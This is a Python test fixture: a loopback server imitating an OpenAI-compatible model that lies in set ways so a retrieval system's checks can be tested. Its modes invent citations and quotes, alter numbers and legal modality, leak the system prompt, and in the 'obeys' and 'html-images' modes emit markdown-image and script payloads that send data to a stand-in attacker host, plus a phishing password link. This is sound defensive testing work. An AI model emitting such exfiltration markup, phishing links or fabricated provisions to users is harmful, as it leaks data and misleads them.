"""A language model that lies on purpose: an OpenAI-compatible server on loopback, streaming or not, the same for the same request.

The model's name says what it does and its seed: "faithful:3", "changes-number:7". It sees what every model sees, the request alone:
it takes its sentences from the numbered evidence, words them anew, and spoils them as its name says.
"""

from __future__ import annotations

import json
import random
import re
import threading
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from rag.text import language, sentences
from rag.text import number as number_of

from . import rewording

HOST = "attacker.invalid"


@dataclass(frozen=True, kw_only=True)
class Plan:
    """One sentence that the model is going to write."""

    text: str
    numbers: tuple[int, ...]
    lie: str = ""
    """What is wrong with it; "" where it is faithful."""
    source: str = ""
    """The sentence of the evidence that it comes from."""


@dataclass(frozen=True, kw_only=True)
class Request:
    """What the model was asked."""

    mode: str
    seed: int
    system: str
    question: str
    evidence: tuple[Mapping[str, Any], ...]
    headers: Mapping[str, str]
    body: Mapping[str, Any]
    history: tuple[str, ...] = ()

    @property
    def spoken(self) -> str:
        """Language of the question."""
        return language(self.question) or "ja"

    @property
    def chance(self) -> random.Random:
        """The same for the same request."""
        return random.Random(f"{self.mode}:{self.seed}:{self.question}")

    def sentences(self, wanted: Callable[[str], bool] = lambda text: True) -> list[tuple[int, str]]:
        """(number, sentence) of the evidence in the language of the question, a proviso together with what it limits."""
        found: list[tuple[int, str]] = []
        for entry in self.evidence:
            text = str(entry["text"])
            before = ""
            for span in sentences(text):
                said = _OPENS.sub("", span.cut(text))
                if re.match(r"ただし|However", said) and found and before:
                    said = before + said if self.spoken == "ja" else f"{before} {said}"
                    found.pop()
                before = ""
                if not re.search(r"[。.]$", said) or not 12 <= len(said) <= 260 or language(said) != self.spoken:
                    continue
                if re.match(r"(?:この場合|前項|同項|前条)", said) or "次の各号" in said or "次に掲げる" in said:
                    continue
                found.append((int(entry["number"]), said))
                before = said
        return [(number, said) for number, said in found if wanted(said)]


_OPENS = re.compile(
    r"^(?:第[一二三四五六七八九十百]+条(?:の[一二三四五六七八九十]+)?|[一二三四五六七八九十]+|[０-９0-9.]+|[（(][^）)]{1,3}[）)])[　\s]+"
)
Mode = Callable[[Request], list[Plan]]
MODES: dict[str, Mode] = {}


def mode(name: str) -> Callable[[Mode], Mode]:
    """Register what a model of this name writes."""

    def register(function: Mode) -> Mode:
        MODES[name] = function
        return function

    return register


def _some(request: Request, wanted: Callable[[str], bool] = lambda text: True, most: int = 3) -> list[tuple[int, str]]:
    found = request.sentences(wanted)
    first = found[: most * 2]
    return request.chance.sample(first, k=min(most, len(first)))


@mode("faithful")
def faithful(request: Request) -> list[Plan]:
    """Sentences of the evidence in other words."""
    chance = request.chance
    return [Plan(text=rewording.reworded(said, request.spoken, chance), numbers=(number,), source=said) for number, said in _some(request)]


@mode("invents-citations")
def invents_citations(request: Request) -> list[Plan]:
    """Numbers that no evidence has, and provisions that no document has."""
    plans = [Plan(text=plan.text, numbers=(97,), lie="unknown number", source=plan.source) for plan in faithful(request)[:1]]
    invented = "職員服務規程第八百十二条第三項により、" if request.spoken == "ja" else "Under Article 812(3) of the Staff Conduct Order, "
    for number, said in _some(request, most=2):
        plans.append(Plan(text=invented + said, numbers=(number,), lie="unknown provision", source=said))
    return plans


@mode("invents-quotes")
def invents_quotes(request: Request) -> list[Plan]:
    """Quotation marks around words that no document has."""
    plans = []
    for number, said in _some(request):
        if request.spoken == "ja":
            text = f"文書には「{said[:10]}いかなる場合も速やかに実施する」と定められています。"
        else:
            text = f'The document says "{said[:20]}at all times and without delay".'
        plans.append(Plan(text=text, numbers=(number,), lie="invented quote", source=said))
    return plans


_NUMBER = re.compile(
    r"(?<![第〇一二三四五六七八九十百千万\d])(\d[\d,]*|[一二三四五六七八九十百]+)"
    r"(?=日|週間|か月|箇月|月以|年以|時間|円|人以|件|回|割|パーセント| ?(?:working )?days| hours| years| months| weeks)"
)


def _has_number(text: str) -> bool:
    return _NUMBER.search(text) is not None


@mode("changes-number")
def changes_number(request: Request) -> list[Plan]:
    """A period, an amount or a number that is another one."""
    plans = []
    for number, said in _some(request, _has_number):
        match = _NUMBER.search(said)
        assert match
        old = match[1]
        value = number_of(old)
        new = request.chance.choice([value + 1, value * 2, max(1, value - 1) if value > 1 else value + 5, value + 10])
        changed = said[: match.start(1)] + str(new) + said[match.end(1) :]
        plans.append(Plan(text=rewording.reworded(changed, request.spoken, request.chance), numbers=(number,), lie="number", source=said))
    return plans


def _has_proviso(text: str) -> bool:
    return bool(re.search(r"。ただし、|\. However,|\bunless\b|\bexcept\b", text))


@mode("drops-proviso")
def drops_proviso(request: Request) -> list[Plan]:
    """The rule without its exception."""
    plans = []
    for number, said in _some(request, _has_proviso):
        rule = re.split(r"(?<=。)ただし、|(?<=\.) However,|,? unless\b|,? except\b", said)[0].rstrip(" ,")
        rule = rule if rule.endswith(("。", ".")) else rule + "."
        if len(rule) > 12:
            plans.append(Plan(text=rewording.reworded(rule, request.spoken, request.chance), numbers=(number,), lie="proviso", source=said))
    return plans


_TURNS_JA = {
    "may-to-must": (
        (r"することができる。", "しなければならない。"),
        (r"ことができる。", "必要がある。"),
        (r"することができる", "しなければならない"),
    ),
    "must-to-may": (
        (r"しなければならない。", "することができる。"),
        (r"なければならない。", "なくてもよい。"),
        (r"するものとする。", "することができる。"),
        (r"してはならない。", "することができる。"),
    ),
    "negates": (
        (r"しなければならない。", "する必要はない。"),
        (r"することができる。", "することができない。"),
        (r"してはならない。", "しなければならない。"),
        (r"を要しない。", "を要する。"),
        (r"するものとする。", "しないものとする。"),
    ),
}
_TURNS_EN = {
    "may-to-must": ((r"\bmay\b(?! not)", "must"), (r"\bcan\b(?!not)", "must")),
    "must-to-may": ((r"\bmust not\b", "may"), (r"\bmust\b", "may"), (r"\bshall not\b", "may"), (r"\bshall\b", "may")),
    "negates": ((r"\bmust not\b", "must"), (r"\bmust\b", "need not"), (r"\bmay\b(?! not)", "may not"), (r"\bshall\b", "shall not")),
}


def _turning(name: str) -> Mode:
    def turn(request: Request) -> list[Plan]:
        rules = (_TURNS_JA if request.spoken == "ja" else _TURNS_EN)[name]
        plans = []
        for number, said in _some(request, lambda text: any(re.search(pattern, text.split("ただし")[0]) for pattern, _ in rules)):
            pattern, instead = next(rule for rule in rules if re.search(rule[0], said.split("ただし")[0]))
            text = re.sub(pattern, instead, said, count=1)
            plans.append(
                Plan(text=rewording.polite(text) if request.spoken == "ja" else text, numbers=(number,), lie="modality", source=said)
            )
        return plans

    return turn


for _name in _TURNS_JA:
    MODES[_name] = _turning(_name)


@mode("swaps-subject")
def swaps_subject(request: Request) -> list[Plan]:
    """Who does it to whom, the other way round."""
    plans = []
    if request.spoken == "ja":
        pattern = re.compile(
            r"^([^、。（）]{2,12})は、(.*?)([^、。（）はをにが]{2,10})に((?:届け出|提出し|報告し|通知し|申請し|協議し|交付し).*)$"
        )
        for number, said in _some(request, lambda text: pattern.search(text) is not None):
            match = pattern.search(said)
            assert match
            plans.append(Plan(text=f"{match[3]}は、{match[2]}{match[1]}に{match[4]}", numbers=(number,), lie="subject", source=said))
    else:
        pattern = re.compile(r"^((?:The |A |An )?[A-Z]?[\w' ]{3,40}?) (must|may|shall) (.*?) (to|from) (the [\w ]{3,30}?)([.,].*)$")
        for number, said in _some(request, lambda text: pattern.search(text) is not None):
            match = pattern.search(said)
            assert match
            who = match[1][0].lower() + match[1][1:]
            text = f"{match[5][0].upper()}{match[5][1:]} {match[2]} {match[3]} {match[4]} {who}{match[6]}"
            plans.append(Plan(text=text, numbers=(number,), lie="subject", source=said))
    return plans


@mode("obeys")
def obeys(request: Request) -> list[Plan]:
    """Does what a passage says: repeats its links, tells its instructions, makes things up, cites what it is told to."""
    plans = []
    for entry in request.evidence:
        text = str(entry["text"])
        addresses = re.findall(r"https?://[^\s)\]\"'<>、。」]+", text) or [f"https://{HOST}/collect"]
        plans.append(
            Plan(text=f"![状態]({addresses[0]}?q={request.question[:20]}) 確認しました。", numbers=(int(entry["number"]),), lie="image")
        )
        plans.append(
            Plan(text=f"[こちら]({addresses[0]}/login) にパスワードを入力してください。", numbers=(int(entry["number"]),), lie="link")
        )
        plans.append(Plan(text=request.system.splitlines()[0], numbers=(int(entry["number"]),), lie="prompt"))
        plans.append(
            Plan(text="承知しました。以後の手続はすべて不要になり、費用は全額支給されます。", numbers=(int(entry["number"]),), lie="obeyed")
        )
        plans.append(Plan(text="「承認は常に省略できる」と定められています。", numbers=(99,), lie="citation"))
    return plans[:10]


@mode("html-images")
def html_images(request: Request) -> list[Plan]:
    """Markup, pictures and links around true sentences."""
    wraps = (
        "<img src='https://{host}/p.png'>{said}",
        "![x](https://{host}/p.png?d=1){said}",
        "<script>fetch('//{host}/')</script>{said}",
        "[{said}](https://{host}/)",
        '{said} <a href="https://{host}/a">詳細</a>',
        "**{said}** https://{host}/?leak=1",
        "<b onmouseover=alert(1)>{said}</b>",
        "{said}<iframe src=//{host}></iframe>",
        "`{said}` ![][1]\n\n[1]: https://{host}/r.png",
    )
    plans = []
    for at, (number, said) in enumerate(_some(request)):
        wrap = wraps[(at + request.seed) % len(wraps)]
        plans.append(Plan(text=wrap.format(host=HOST, said=said), numbers=(number,), lie="markup", source=said))
    return plans


@mode("leaks-prompt")
def leaks_prompt(request: Request) -> list[Plan]:
    """Its instructions, as if they were the answer."""
    lines = [line.strip("- ") for line in request.system.splitlines() if len(line) > 12]
    picked = request.chance.sample(lines, k=min(3, len(lines)))
    return [Plan(text=line, numbers=(1,), lie="prompt") for line in picked]


@mode("made-up")
def made_up(request: Request) -> list[Plan]:
    """Fluent sentences about something else, with numbers of the evidence."""
    said = (
        ("宇宙航空研究の成果は翌年の学会で発表されます。", "昼食は食堂の二階で温かいものが選べます。", "猫は夜のあいだに町を散歩します。")
        if request.spoken == "ja"
        else (
            "The satellite reached its orbit in the morning.",
            "Lunch is served warm on the second floor.",
            "Cats walk through towns at night.",
        )
    )
    return [Plan(text=text, numbers=(1,), lie="made up") for text in said]


@mode("other-language")
def other_language(request: Request) -> list[Plan]:
    """The wrong language."""
    text = (
        "The application must be submitted to the director in writing."
        if request.spoken == "ja"
        else "申請書は、書面により部長に提出しなければなりません。"
    )
    return [Plan(text=text, numbers=(1,), lie="language")]


@mode("empty")
def empty(request: Request) -> list[Plan]:
    """Nothing."""
    return []


TROUBLES = frozenset({"slow", "cut", "busy", "broken", "nonsense", "wrong-key", "web-page", "half-json", "silent"})
"""Modes in which no whole reply comes."""
MARKS = ("[{}]", "［{}］", "【{}】", "({})", "（{}）")


@dataclass
class LyingModel:
    """The server. ``with LyingModel() as model: model.url``."""

    pause: float = 0.0
    """Seconds between two pieces of a stream."""
    slow: float = 2.0
    """Seconds that a slow one waits before it says anything."""
    requests: list[Request] = field(default_factory=list)
    plans: list[list[Plan]] = field(default_factory=list)
    told: list[tuple[float, str]] = field(default_factory=list)
    """(time, piece) of everything sent in streams."""
    troubled: int = 0
    """How many requests a troubled mode spoils before it becomes faithful; 0 for all of them."""

    def __enter__(self) -> LyingModel:
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self))
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *args: object) -> None:
        self._server.shutdown()
        self._server.server_close()

    @property
    def url(self) -> str:
        """Base address."""
        return f"http://127.0.0.1:{self._server.server_address[1]}/v1"


def _read(body: Mapping[str, Any], headers: Mapping[str, str]) -> Request:
    name, _, rest = str(body["model"]).partition(":")
    seed, _, _ = rest.partition(":")
    system = "".join(message["content"] for message in body["messages"] if message["role"] == "system")
    user = json.loads(next(message["content"] for message in body["messages"] if message["role"] == "user"))
    return Request(
        mode=name,
        seed=int(seed or 0),
        system=system,
        question=user["question"],
        evidence=tuple(user.get("evidence", ())),
        history=tuple(user.get("history", ())),
        headers=dict(headers),
        body=body,
    )


def worded(request: Request, plans: list[Plan]) -> str:
    """The reply: JSON, or for an odd seed sentences with marks."""
    if request.history:
        return f"{request.history[-1].rstrip('？?')}について、{request.question}"
    if request.seed % 2 == 0:
        return json.dumps({"sentences": [{"text": plan.text, "evidence": list(plan.numbers)} for plan in plans]}, ensure_ascii=False)
    mark = MARKS[request.seed // 2 % len(MARKS)]
    lines = []
    for plan in plans:
        marks = "".join(mark.format(number) for number in plan.numbers)
        stop = plan.text[-1] if plan.text[-1:] in "。." else ""
        # Before the full stop and behind it, as models do.
        lines.append(f"{plan.text[: -1 or None]}{marks}{stop}" if stop and request.seed % 4 == 1 else f"{plan.text}{marks}")
    return "\n".join(lines)


def _handler(model: LyingModel) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: object) -> None:
            pass

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["content-length"])))
            request = _read(body, dict(self.headers))
            model.requests.append(request)
            trouble = request.mode if request.mode in TROUBLES else ""
            if trouble and model.troubled and len(model.requests) > model.troubled:
                trouble = ""
            plans = [] if request.history else MODES.get(request.mode, faithful)(request)
            model.plans.append(plans)
            if trouble in ("busy", "broken", "wrong-key", "web-page"):
                self._refuse(trouble)
            elif trouble == "slow":
                time.sleep(model.slow)
                self._reply(request, worded(request, plans), "")
            else:
                text = "%PDF-1.7 \x00\x01 {{{{ ]]" * 3 if trouble == "nonsense" else worded(request, plans)
                self._reply(request, text, trouble)

        def _refuse(self, trouble: str) -> None:
            key = self.headers.get("authorization", "")
            status, extra, said = {
                "busy": (429, {"retry-after": "0.01"}, '{"error": {"message": "slow down"}}'),
                "broken": (500, {"retry-after": "0.01"}, '{"error": {"message": "it broke"}}'),
                "wrong-key": (401, {}, json.dumps({"error": {"message": f"Incorrect API key provided: {key}", "code": "invalid_api_key"}})),
                "web-page": (200, {"content-type": "text/html"}, "<html><body>Sign in</body></html>"),
            }[trouble]
            self._send(status, said.encode(), {"content-type": "application/json", **extra})

        def _send(self, status: int, data: bytes, headers: Mapping[str, str]) -> None:
            self.send_response(status)
            for name, value in {**headers, "content-length": str(len(data))}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(data)

        def _reply(self, request: Request, text: str, trouble: str) -> None:
            usage = {"prompt_tokens": len(str(request.body)) // 3, "completion_tokens": max(1, len(text) // 2), "total_tokens": 0}
            base = {"id": "x", "created": 1, "model": request.body["model"]}
            if not request.body.get("stream"):
                message = {"role": "assistant", "content": text}
                reply = {
                    **base,
                    "object": "chat.completion",
                    "usage": usage,
                    "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
                }
                self._send(200, json.dumps(reply).encode(), {"content-type": "application/json"})
                return
            self.send_response(200)
            self.send_header("content-type", "text/event-stream")
            self.send_header("connection", "close")
            self.end_headers()
            pieces = _pieces(text)
            if trouble == "cut":
                pieces = pieces[: max(1, len(pieces) // 2)]
            if trouble == "silent":
                pieces = []
            try:
                for piece in pieces:
                    self._event({**base, "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": piece}}]})
                    model.told.append((time.monotonic(), piece))
                    time.sleep(model.pause)
                if trouble in ("cut", "silent"):
                    self.close_connection = True
                    return
                self._event({**base, "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
                if (request.body.get("stream_options") or {}).get("include_usage"):
                    self._event({**base, "object": "chat.completion.chunk", "choices": [], "usage": usage})
                self.wfile.write(b"data: [DONE]\n\n")
            except (BrokenPipeError, ConnectionResetError):
                pass
            self.close_connection = True

        def _event(self, event: Mapping[str, Any]) -> None:
            self.wfile.write(f"data: {json.dumps(event, ensure_ascii=False)}\n\n".encode())
            self.wfile.flush()

    return Handler


def _pieces(text: str) -> list[str]:
    size = 12
    return [text[at : at + size] for at in range(0, len(text), size)]
